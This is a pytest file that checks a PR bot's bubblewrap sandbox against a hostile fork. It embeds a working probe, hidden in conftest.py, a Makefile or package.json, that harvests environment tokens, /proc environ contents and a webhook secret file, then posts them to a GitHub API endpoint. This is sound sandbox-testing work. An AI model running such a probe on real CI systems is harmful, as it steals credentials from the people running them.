"""A hostile fork (issue #27): its conftest, Makefile or package.json script reads the
environment, /proc, the data dir, and reports over loopback to GitHub. In the job sandbox it
finds nothing and reaches nothing; without one (the fallback) the same probe gets through,
which shows the probe works and the sandbox is what stops it."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from bot.config import RepoConfig
from bot.llm import AnthropicLLM
from bot.models import JobKind, JobResult
from bot.ports import GitHubPort, JobEnv, push_branch
from bot.sandbox import SandboxPolicy, sandbox_status
from bot.usecase import UseCase
from bot.workflows.follow_up.story import follow_up
from tests.e2e import REPO, World, fast_validation_yaml, world
from tests.fakes.anthropic import finish, reply
from tests.fakes.gitrepo import push_files, server_url
from tests.test_follow_up import pr_comment_by
from tests.test_forks import ASKED, BRANCH, base_files, seed_fork

pytestmark = pytest.mark.slow

PLANTED = "probe-env-secret-5d81c"
DATA_SECRET = "probe-data-secret-93ab0"
PROBE = """\
import glob, json, os, urllib.request
found = []
if os.environ.get("AGENTBOT_PROBE_TOKEN"):
    found.append("env:" + os.environ["AGENTBOT_PROBE_TOKEN"])
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        if b"{planted}" in open(path, "rb").read():
            found.append("proc:" + path)
    except OSError:
        pass
try:
    found.append("data:" + open({data!r}).read())
except OSError:
    pass
try:
    req = urllib.request.Request(
        {api!r} + "/repos/octo/calc/issues/1/comments",
        data=json.dumps({{"body": "PWNED " + json.dumps(found)}}).encode(),
        headers={{"Authorization": "token x", "Content-Type": "application/json"}},
    )
    urllib.request.urlopen(req, timeout=5)
except OSError:
    pass
print("PROBE " + json.dumps(found).encode().hex())
"""


@pytest.fixture(params=["bwrap", "none"])
def kind(request: pytest.FixtureRequest) -> str:
    if request.param == "bwrap" and not sandbox_status().ok:
        pytest.skip(f"bubblewrap not usable: {sandbox_status().reason}")
    return str(request.param)


def hosts(probe: str) -> dict[str, tuple[str, dict[str, str]]]:
    """Where a fork hides the probe: (the base's test command, the fork's files)."""
    py = sys.executable
    return {
        "conftest": (
            f"{py} -m pytest -q -p no:cacheprovider",
            {"conftest.py": probe},
        ),
        "makefile": ("make test", {"probe.py": probe, "Makefile": "test:\n\tpython3 probe.py\n"}),
        "package.json": (
            "npm test",
            {"probe.py": probe, "package.json": '{"scripts": {"test": "python3 probe.py"}}\n'},
        ),
    }


def sandboxed_door(w: World, policy: SandboxPolicy) -> UseCase:
    def make_env(github: GitHubPort, config: RepoConfig) -> JobEnv:
        return JobEnv(
            push=push_branch,
            github=github,
            config=config,
            llm_factory=lambda model: AnthropicLLM(
                model=model, api_key="sk-test", base_url=w.llm.base_url, clock=w.clock
            ),
            data_dir=w.tmp / "data",
            server_url=server_url(w.tmp / "server"),
            clock=w.clock,
            sandbox=policy.open(config.sandbox.network),
        )

    client = w.gh.client(clock=w.clock)
    return UseCase(
        github_for=lambda d: client,
        handlers={JobKind.FOLLOW_UP: follow_up},
        make_env=make_env,
        bot_login="github-actions[bot]",
        clock=w.clock,
    )


def found_by_probe(text: str) -> list[str]:
    """Everything the probe reported in text that reached the model."""
    out: list[str] = []
    for hexed in re.findall(r"PROBE ([0-9a-f]+)", text):
        out += json.loads(bytes.fromhex(hexed))
    return out


@pytest.mark.parametrize("host", ["conftest", "makefile", "package.json"])
def test_a_forks_code_reads_nothing_and_reaches_nothing_in_the_sandbox(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    request: pytest.FixtureRequest,
    kind: str,
    host: str,
) -> None:
    monkeypatch.setenv("AGENTBOT_PROBE_TOKEN", PLANTED)  # a secret of the bot's process
    # ... and of another process of the bot's user (a worker), seen in its /proc environ.
    worker = subprocess.Popen(["sleep", "600"], env={**os.environ, "AGENTBOT_PROBE_TOKEN": PLANTED})
    request.addfinalizer(worker.kill)
    home = tmp_path / "bot-home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    data = tmp_path / "data"
    data.mkdir()
    (data / "webhook-secret").write_text(DATA_SECRET)
    script = [*ASKED, reply(finish(status="FAIL", summary="cannot repair it"))] * 2
    with world(tmp_path, script, files=base_files()) as w:
        probe = PROBE.format(planted=PLANTED, data=str(data / "webhook-secret"), api=w.gh.url)
        command, files = hosts(probe)[host]
        yaml = fast_validation_yaml().replace(
            f"  test: {sys.executable} -m pytest -q -p no:cacheprovider", f"  test: {command}"
        )
        w.gh.set_file(REPO, ".github/agentbot.yml", yaml)
        fork = seed_fork(w, can_modify=True)
        push_files(fork, BRANCH, files, message="chore: tooling")
        policy = SandboxPolicy(
            root=data / "sandbox",
            hidden=(data,),
            mode="auto" if kind == "bwrap" else "none",
            host_home=home,
        )

        result = sandboxed_door(w, policy).handle(pr_comment_by("maint", "/fix say integers"))

        assert isinstance(result, JobResult), result
        pwned = [c.body for c in w.gh.comments_on(REPO, 1) if c.body.startswith("PWNED")]
        seen = found_by_probe(w.llm_requests_text()) + pwned
        everything = " ".join(seen) + json.dumps([c.json for c in w.gh.calls], default=str)
        if kind == "none" and host != "conftest":
            # The fork's Makefile or package.json defines its own judge: the base's runs
            # in its place (bot/validation/base_judge.py), so the rewrite never ran at all.
            assert pwned == []
        elif kind == "none":
            # Unsandboxed, the probe reaches GitHub over loopback with what it read (the
            # environment itself is an allowlist either way).
            assert pwned and f"proc:/proc/{worker.pid}/environ" in pwned[0]
            assert DATA_SECRET in pwned[0]
        else:
            assert pwned == []
            assert PLANTED not in everything and DATA_SECRET not in everything
            assert not [f for f in found_by_probe(w.llm_requests_text()) if f]
